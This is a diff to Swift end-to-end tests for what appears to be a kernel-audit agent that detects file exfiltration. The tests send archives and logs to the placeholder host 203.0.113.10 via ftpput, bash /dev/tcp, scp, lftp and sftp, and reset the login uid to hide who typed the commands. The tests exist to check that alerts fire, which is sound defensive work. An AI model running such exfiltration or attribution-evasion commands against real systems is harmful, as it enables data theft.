@@ -59,12 +59,12 @@ extension KernelAuditTests.FlowEndToEnd {
                 "printf 'QUIT\\r\\n' >&3; reply >/dev/null",
             ])
         let cron = try cronShell()
-        let agent = try startAgent(user: "_xferwatch")
+        let agent = try startAgent()
         let renamed = try client(cron, ["-c", "\(kworker) -n -p 203.0.113.10 < \(commands) > /dev/null; true"])
         _ = try client(cron, ["-c", "\(work)/.bin/ftpput -u anonymous -p x 203.0.113.10 upload/bb.tar \(archive); true"])
         let python = try client(cron, ["-c", "/usr/bin/python3 \(script) \(payload); true"])
         let bash = try client(cron, ["-c", "/bin/bash \(devtcp); true"])
-        let flows = try stop(agent, expecting: 5)
+        let flows = try stop(agent, expecting: 5); try? agent.stderr.write(toFile: "/tmp/evasion-agent.log", atomically: true, encoding: .utf8)
         let alerts = try readAlerts()
         let rules = { (pid: Int?) in Set(alerts.filter { $0.pid == pid }.map(\.rule)) }
 
@@ -103,7 +103,7 @@ extension KernelAuditTests.FlowEndToEnd {
         let batch = try commandsFile("batch.sftp", ["put \(file) \(lab)/sshroot/batch.bin"])
         let options = sshOptions.joined(separator: " ")
         let cron = try cronShell()
-        let agent = try startAgent(user: "_xferwatch")
+        let agent = try startAgent()
         // On a pseudo-terminal with a login uid, the person types sftp's commands.
         let sftpPerson = try client(
             "/usr/bin/script", ["-qefc", "sh -c 'echo 0 > /proc/self/loginuid; exec sftp \(options) root@203.0.113.10'", "/dev/null"],
@@ -153,7 +153,7 @@ extension KernelAuditTests.FlowEndToEnd {
             user = "root"
             destination_networks = ["203.0.113.0/24"]
 
-            """, user: "_xferwatch")
+            """)
         let mirror = "-u anonymous,x -e 'mirror -R \(directory) upload/mirror; quit' 203.0.113.10"
         let backup = try client(cron, ["-c", "lftp \(mirror) > /dev/null; true"])
         let copied = try client(cron, ["-c", "\(lftpCopy) \(mirror) > /dev/null; true"])
@@ -169,7 +169,7 @@ extension KernelAuditTests.FlowEndToEnd {
     @Test func aShellsCommandAndTheProgramItRunsRaiseOneAlertOnTheProgram() throws {
         let file = try randomFile("shell.bin", bytes: 50_000)
         let cron = try cronShell()
-        let agent = try startAgent(user: "_xferwatch")
+        let agent = try startAgent()
         // `; true` keeps the shell from exec'ing its last command: sh stays the parent.
         let ftpput = try client(cron, ["-c", "sh -c 'busybox ftpput -u anonymous -p x 203.0.113.10 upload/sh.bin \(file); true'"])
         let scp = try client(cron, ["-c", "sh -c 'scp -r \(sshOptions.joined(separator: " ")) /var/log/apt root@203.0.113.10:\(lab)/sshroot/; true'"])
